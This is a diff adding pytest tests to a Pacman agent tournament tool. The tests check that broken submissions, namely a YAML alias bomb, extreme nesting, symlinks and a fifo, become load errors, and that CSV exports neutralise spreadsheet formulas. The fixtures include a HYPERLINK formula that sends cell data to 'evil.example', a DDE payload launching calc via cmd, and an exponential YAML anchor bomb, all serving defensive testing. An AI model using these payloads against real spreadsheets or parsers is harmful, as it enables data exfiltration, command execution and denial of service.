@@ -302,3 +302,83 @@ def test_what_a_team_prints_is_kept_in_a_log_per_game(tmp_path: Path) -> None:
     assert [p.name for p in logs] == ["0.log"]
     assert logs[0].read_text().startswith("thinking about 0")
     assert not (tmp_path / "out" / "logs" / "greedy").exists()  # built-ins print nothing
+
+
+def test_teams_that_cannot_be_resolved_lose_their_games_and_the_others_play(
+        tmp_path: Path) -> None:
+    """A team.yaml alias bomb or deep nesting, a file linked to another team's, a linked team
+    folder, a fifo: no traceback, no hang, no config error for the organizer; `validate`
+    names each problem, `run` plays everyone and records the broken teams' games as their
+    own load_error, and a fixed folder is played again."""
+    config = make_tournament(tmp_path, {"alpha": "example"}, games=1, layouts="[testClassic]")
+    subs = tmp_path / "submissions"
+    agent = "agent: multiAgents.py:ExampleExpectimaxAgent\n"
+    anchors = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
+    anchors += [f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, 10)]
+    for name, team_yaml in [("bomb", "\n".join(anchors) + "\n" + agent + "args: {x: *l9}\n"),
+                            ("deep", agent + "args: " + "[" * 10_000 + "]" * 10_000 + "\n"),
+                            ("copycat", agent), ("piped", agent)]:
+        shutil.copytree(REPO / "submissions" / "example-team", subs / name)
+        (subs / name / "team.yaml").write_text(team_yaml)
+    (subs / "copycat" / "multiAgents.py").unlink()
+    (subs / "copycat" / "multiAgents.py").symlink_to(subs / "alpha" / "multiAgents.py")
+    os.mkfifo(subs / "piped" / "weights.pkl")
+    (subs / "mirror").symlink_to(subs / "alpha")
+    broken = {
+        "bomb": f"{subs / 'bomb' / 'team.yaml'}: line 1, column 5: an anchor (&name) is not "
+                "allowed here",
+        "deep": f"{subs / 'deep' / 'team.yaml'}: line 2, column 14: nested more than 8 levels",
+        "copycat": f"{subs / 'copycat' / 'multiAgents.py'}: is a symbolic link",
+        "piped": f"{subs / 'piped' / 'weights.pkl'}: is a named pipe (fifo)",
+        "mirror": f"{subs / 'mirror'}: the team folder is a symbolic link",
+    }
+
+    checked = tournament("validate", str(config), check=False)
+    assert checked.returncode == 1, checked.stdout + checked.stderr
+    assert "Traceback" not in checked.stdout + checked.stderr
+    assert "alpha: ok, sandboxed" in checked.stdout
+    for name, problem in broken.items():
+        assert f"{name}: FAILED {problem}" in checked.stdout
+
+    ran = tournament("run", str(config))
+    assert "Traceback" not in ran.stdout + ran.stderr
+    for name, problem in broken.items():
+        assert f"warning: team {name} cannot play, so its games are recorded as its " \
+               f"load_error: {problem}" in ran.stdout
+    outcomes = {r[1]: (r[5], r[6], r[7]) for r in rows(config)}
+    assert {name: outcomes[name] for name in broken} == {
+        name: ("load_error", 0, 0) for name in broken}
+    assert outcomes["alpha"][0] in ("win", "loss", "move_limit")
+    assert outcomes["greedy"][0] in ("win", "loss", "move_limit")
+    with sqlite3.connect(tmp_path / "out" / "results.sqlite") as conn:
+        messages = dict(conn.execute("SELECT entrant, message FROM games"))
+    for name, problem in broken.items():
+        assert messages[name].startswith(problem[:60])
+
+    # The copycat submits its own copy: its folder's hash changes and its game is replayed.
+    (subs / "copycat" / "multiAgents.py").unlink()
+    shutil.copy(subs / "alpha" / "multiAgents.py", subs / "copycat" / "multiAgents.py")
+    again = tournament("run", str(config)).stdout
+    assert "1 to play (1 stale" in again
+    assert {r[1]: r[5] for r in rows(config)}["copycat"] in ("win", "loss", "move_limit")
+
+
+def test_games_csv_neutralises_formulas_an_agent_chose_and_keeps_numbers(
+        tmp_path: Path) -> None:
+    """Whatever text an agent gets into its failure message (here put in the store as if it
+    had), games.csv read back by the csv module holds it as quoted text; scores stay numbers."""
+    config = make_tournament(tmp_path, {"alpha": "example"}, games=1, layouts="[testClassic]")
+    tournament("run", str(config))
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    with sqlite3.connect(tmp_path / "out" / "results.sqlite") as conn:
+        conn.execute("UPDATE games SET message = ?, trace = ?, score = -517 "
+                     "WHERE entrant = 'alpha'", (formula, "@SUM(1+1)*cmd|' /C calc'!A0"))
+    tournament("leaderboard", str(config))
+    with open(tmp_path / "out" / "games.csv", newline="", encoding="utf-8") as fh:
+        games = {row["entrant"]: row for row in csv.DictReader(fh)}
+    assert games["alpha"]["message"] == "'" + formula
+    assert games["alpha"]["trace"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert games["alpha"]["score"] == "-517"
+    with open(tmp_path / "out" / "leaderboard.csv", newline="", encoding="utf-8") as fh:
+        board = {row["entrant"]: row for row in csv.DictReader(fh)}
+    assert float(board["alpha"]["mean_score"]) == -517.0
